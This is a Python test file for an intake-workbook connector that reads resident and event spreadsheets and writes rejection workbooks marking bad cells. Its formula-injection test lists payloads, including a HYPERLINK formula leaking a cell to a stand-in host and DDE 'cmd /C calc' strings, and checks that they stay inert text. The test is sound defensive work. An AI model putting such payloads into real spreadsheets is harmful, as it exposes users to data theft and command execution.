"""Intake template round trip, reading dropped workbooks, and the rejection workbook."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.worksheet import Worksheet

from connectors.intake_workbook import (
    EVENTS,
    LISTS_SHEET,
    REASON_HEADER,
    RESIDENTS,
    professional_categories,
    read_intake_workbook,
    write_intake_template,
    write_rejection_workbook,
)
from hub_errors import SourceError
from schemas.mapping import load_mapping
from schemas.standardize import standardize


@pytest.fixture
def template(tmp_path: Path) -> Path:
    return write_intake_template(tmp_path / "template.xlsx")


def fill(template: Path, out: Path) -> Path:
    """What community staff do: open the template, type rows, save under another name."""
    wb = openpyxl.load_workbook(template)
    residents = wb[RESIDENTS.title]
    residents.append(
        [
            "张三",
            "350603195001011234",
            "男",
            "1950-01-01",
            "13912345678",
            "幸福路1号3栋501室",
            "东铺头社区01网格",
            "人户一致",
            "",
        ]
    )
    residents.append(
        [
            "李四",
            "350603195001011235",
            "女",
            dt.datetime(1960, 5, 6),
            13800001111,
            "胜利路2号",
            "",
            "",
            '=HYPERLINK("x")',
        ]
    )
    residents["I3"].data_type = "s"  # typed as '=HYPERLINK("x"): text, not a formula
    residents.append([None] * 9)
    residents.append(["王五", "", "", "", "", "新华路3号", "", "", ""])
    events = wb[EVENTS.title]
    events.append(["噪声扰民", dt.datetime(2026, 3, 1, 21, 30), "幸福路1号", "", "晚上太吵", "上报", "13912345678"])
    wb.save(out)
    return out


def test_template_has_sheets_dropdowns_hints_and_text_columns(template: Path) -> None:
    wb = openpyxl.load_workbook(template)
    assert wb.sheetnames[1:3] == [RESIDENTS.title, EVENTS.title]
    assert wb[LISTS_SHEET].sheet_state == "hidden"
    residents, events = wb[RESIDENTS.title], wb[EVENTS.title]
    assert [cell.value for cell in residents[1]] == [column.header for column in RESIDENTS.columns]
    assert residents.freeze_panes == "A2"
    assert "18位" in residents["B1"].comment.text
    assert residents.max_row == 1
    assert residents.column_dimensions["B"].number_format == "@"
    assert residents.column_dimensions["E"].number_format == "@"
    assert residents.column_dimensions["A"].number_format == "General"

    def validation_for(ws: Worksheet, cell: str) -> DataValidation:
        return next(dv for dv in ws.data_validations.dataValidation if cell in dv.sqref)

    gender = validation_for(residents, "C2")
    assert gender.type == "list" and LISTS_SHEET in gender.formula1
    assert gender.prompt and "男" in gender.prompt
    category = validation_for(events, "A2")
    listed = [row[0].value for row in wb[LISTS_SHEET].iter_rows(min_row=2, min_col=2, max_col=2) if row[0].value]
    assert category.type == "list" and "$B$2" in category.formula1
    assert listed == professional_categories() and "噪声扰民" in listed
    status = validation_for(events, "F9")
    assert status.type == "list"
    assert validation_for(residents, "A2").prompt.startswith("必填")


def test_read_dropped_workbook_gives_raw_strings_with_row_numbers(template: Path, tmp_path: Path) -> None:
    rows = read_intake_workbook(fill(template, tmp_path / "东铺头0301.xlsx"))
    residents = rows["residents"]
    assert [row["行号"] for row in residents] == ["2", "3", "5"]
    assert residents[0]["记录编号"] == "东铺头0301:居民信息:2"
    assert residents[0]["公民身份号码"] == "350603195001011234"
    assert residents[1]["出生日期"] == "1960-05-06" and residents[1]["联系电话"] == "13800001111"
    assert residents[1]["备注"] == '=HYPERLINK("x")'
    assert residents[2]["性别"] == ""
    assert all(isinstance(value, str) for row in residents for value in row.values())
    assert rows["events"][0]["发生时间"] == "2026-03-01 21:30:00"


def test_rejection_workbook_marks_the_bad_cell(template: Path, tmp_path: Path) -> None:
    rows = read_intake_workbook(fill(template, tmp_path / "drop.xlsx"))
    quarantine = pd.DataFrame(
        [
            {
                "source": "intake",
                "record_id": "drop:居民信息:3",
                "field": "id_no",
                "check": "id_checksum",
                "value": "350603195001011235",
                "reason": "身份证号校验位不正确",
            },
            {
                "source": "intake",
                "record_id": "drop:居民信息:3",
                "field": "record",
                "check": "x",
                "value": "",
                "reason": "与已有记录冲突",
            },
        ]
    )
    path = write_rejection_workbook(tmp_path / "退回.xlsx", rows, quarantine)
    ws = openpyxl.load_workbook(path)[RESIDENTS.title]
    headers = [cell.value for cell in ws[1]]
    assert ws.max_row == 2
    assert ws["A2"].value == "李四"
    bad = ws.cell(row=2, column=headers.index("公民身份号码") + 1)
    assert bad.value == "350603195001011235" and bad.data_type == "s"
    assert bad.fill.fgColor.rgb.endswith("FFC7CE")
    assert "身份证号校验位不正确" in bad.comment.text
    assert ws["A2"].comment is None and not ws["A2"].fill.fgColor.rgb.endswith("FFC7CE")
    note = ws.cell(row=2, column=headers.index("备注") + 1)
    assert note.value == '=HYPERLINK("x")' and note.data_type == "s"
    reason = ws.cell(row=2, column=headers.index(REASON_HEADER) + 1).value
    assert "公民身份号码：身份证号校验位不正确" in reason and "与已有记录冲突" in reason
    assert ws.cell(row=2, column=headers.index("行号") + 1).value == "3"

    resubmitted = read_intake_workbook(path)
    assert len(resubmitted["residents"]) == 1 and resubmitted["events"] == []
    again = resubmitted["residents"][0]
    original = {key: value for key, value in rows["residents"][1].items() if key not in ("记录编号", "行号")}
    assert {key: again[key] for key in original} == original
    assert REASON_HEADER not in again


def test_unreadable_or_foreign_workbooks_raise_source_error(tmp_path: Path) -> None:
    broken = tmp_path / "broken.xlsx"
    broken.write_text("not a workbook", encoding="utf-8")
    with pytest.raises(SourceError, match=r"broken\.xlsx"):
        read_intake_workbook(broken)
    foreign = tmp_path / "foreign.xlsx"
    openpyxl.Workbook().save(foreign)
    with pytest.raises(SourceError, match="hub template"):
        read_intake_workbook(foreign)


def test_intake_mappings_name_exactly_the_template_columns() -> None:
    for sheet in (RESIDENTS, EVENTS):
        mapping = load_mapping(sheet.dataset, "intake")
        assert mapping.record_id == "记录编号"
        mapped = {**mapping.columns, **mapping.attributes}
        assert mapped == {column.header: column.field for column in sheet.columns}


def test_dropped_workbook_with_one_bad_row_comes_back_marked(template: Path, tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(template)
    residents = wb[RESIDENTS.title]
    residents.append(["张三", "350603195001011233", "男", "1950-01-01", "13912345678", "幸福路1号", "", "", ""])
    residents.append(["", "350603195001011235", "女", "1960-05-06", "13800001111", "胜利路2号", "", "", ""])
    wb.save(tmp_path / "drop.xlsx")
    rows = read_intake_workbook(tmp_path / "drop.xlsx")
    result = standardize("residents", "intake", pd.DataFrame(rows["residents"]))
    assert list(result.accepted["record_id"]) == ["drop:居民信息:2"]
    assert set(result.quarantine["record_id"]) == {"drop:居民信息:3"}

    path = write_rejection_workbook(tmp_path / "rejected" / "drop.xlsx", rows, result.quarantine)
    ws = openpyxl.load_workbook(path)[RESIDENTS.title]
    assert ws.max_row == 2 and ws["B2"].value == "350603195001011235"
    assert ws["A2"].fill.fgColor.rgb.endswith("FFC7CE")
    assert "姓名" in ws["A2"].comment.text
    assert "校验位不符" in ws["B2"].comment.text, "its ID number is wrong as well: it goes back marked too"


PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?leak="&A2,"点击核对")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
)
HEADERS = tuple(payload.strip() for payload in PAYLOADS)  # the reader trims header cells


def test_formula_payloads_in_headers_and_cells_come_back_as_inert_text(template: Path, tmp_path: Path) -> None:
    """Headers and values typed as text in a dropped workbook must not become live formulas when the
    hub writes them back in the rejection workbook."""
    wb = openpyxl.load_workbook(template)
    residents = wb[RESIDENTS.title]
    first_extra = len(RESIDENTS.columns) + 1
    for offset, payload in enumerate(PAYLOADS):
        header = residents.cell(row=1, column=first_extra + offset, value=payload)
        header.data_type = "s"  # typed with a leading apostrophe: text in the dropped file
    residents.append(["", "350603195001011235", "女", "1960-05-06", "", "胜利路2号", "", "", "", *PAYLOADS])
    for offset in range(len(PAYLOADS)):
        residents.cell(row=2, column=first_extra + offset).data_type = "s"
    wb.save(tmp_path / "drop.xlsx")
    rows = read_intake_workbook(tmp_path / "drop.xlsx")
    assert set(HEADERS) <= set(rows["residents"][0])
    result = standardize("residents", "intake", pd.DataFrame(rows["residents"]))
    assert set(result.quarantine["record_id"]) == {"drop:居民信息:2"}

    path = write_rejection_workbook(tmp_path / "rejected.xlsx", rows, result.quarantine)
    book = openpyxl.load_workbook(path)
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    ws = book[RESIDENTS.title]
    headers = [cell.value for cell in ws[1]]
    assert set(HEADERS) <= set(headers)
    for header, payload in zip(HEADERS, PAYLOADS, strict=True):
        cell = ws.cell(row=2, column=headers.index(header) + 1)
        assert cell.value == payload and cell.data_type == "s" and cell.quotePrefix
        assert ws.cell(row=1, column=headers.index(header) + 1).quotePrefix
    resubmitted = read_intake_workbook(path)["residents"][0]
    assert all(resubmitted[header] == payload for header, payload in zip(HEADERS, PAYLOADS, strict=True))


def test_bad_id_numbers_and_phones_go_back_cell_by_cell_with_the_reason(template: Path, tmp_path: Path) -> None:
    """A wrong check digit whose birth date and sex contradict the row, a 17-digit number and a
    7-digit phone: none is dropped silently, each comes back marked with a reason in Chinese."""
    wb = openpyxl.load_workbook(template)
    residents = wb[RESIDENTS.title]
    residents.append(["张三", "350603195001011233", "男", "1950-01-01", "13912345678", "幸福路1号", "", "", ""])
    # the check digit of 350603198001011236 is 7; its date says 1980-01-01 and its order code a man
    residents.append(["李梅", "350603198001011236", "女", "1985-03-02", "13912345679", "幸福路2号", "", "", ""])
    residents.append(["王芳", "35060319900101124", "女", "1990-01-01", "13912345670", "幸福路3号", "", "", ""])
    residents.append(["赵强", "350603195001011233", "男", "1950-01-01", "2345678", "幸福路4号", "", "", ""])
    wb.save(tmp_path / "drop.xlsx")
    rows = read_intake_workbook(tmp_path / "drop.xlsx")
    result = standardize("residents", "intake", pd.DataFrame(rows["residents"]))
    assert list(result.accepted["record_id"]) == ["drop:居民信息:2"]
    assert result.received == result.quarantined_records + len(result.accepted) == 4
    assert result.records_per_check == {"id_invalid": 2, "phone_invalid": 1}

    path = write_rejection_workbook(tmp_path / "rejected.xlsx", rows, result.quarantine)
    ws = openpyxl.load_workbook(path)[RESIDENTS.title]
    headers = [cell.value for cell in ws[1]]

    def cell(row: int, header: str) -> openpyxl.cell.Cell:
        return ws.cell(row=row, column=headers.index(header) + 1)

    assert ws.max_row == 4
    checksum = cell(2, "公民身份号码")
    assert checksum.value == "350603198001011236" and checksum.fill.fgColor.rgb.endswith("FFC7CE")
    assert "校验位不符" in checksum.comment.text
    assert "1980-01-01" in checksum.comment.text and "1985-03-02" in checksum.comment.text
    assert "男性" in checksum.comment.text
    assert "身份证号" in cell(2, "出生日期").comment.text and "身份证号" in cell(2, "性别").comment.text
    short = cell(3, "公民身份号码")
    assert short.value == "35060319900101124" and "18位" in short.comment.text and "17位" in short.comment.text
    phone = cell(4, "联系电话")
    assert phone.value == "2345678" and "7位" in phone.comment.text and "区号" in phone.comment.text
    assert all(cell(row, REASON_HEADER).value for row in (2, 3, 4))


def test_template_and_rejection_workbooks_print_landscape_with_the_header_on_every_page(template: Path) -> None:
    book = openpyxl.load_workbook(template)
    for title in (RESIDENTS.title, EVENTS.title):
        ws = book[title]
        assert ws.page_setup.orientation == "landscape" and ws.print_title_rows == "$1:$1"
        assert ws.sheet_properties.pageSetUpPr.fitToPage and "&P" in ws.oddFooter.center.text
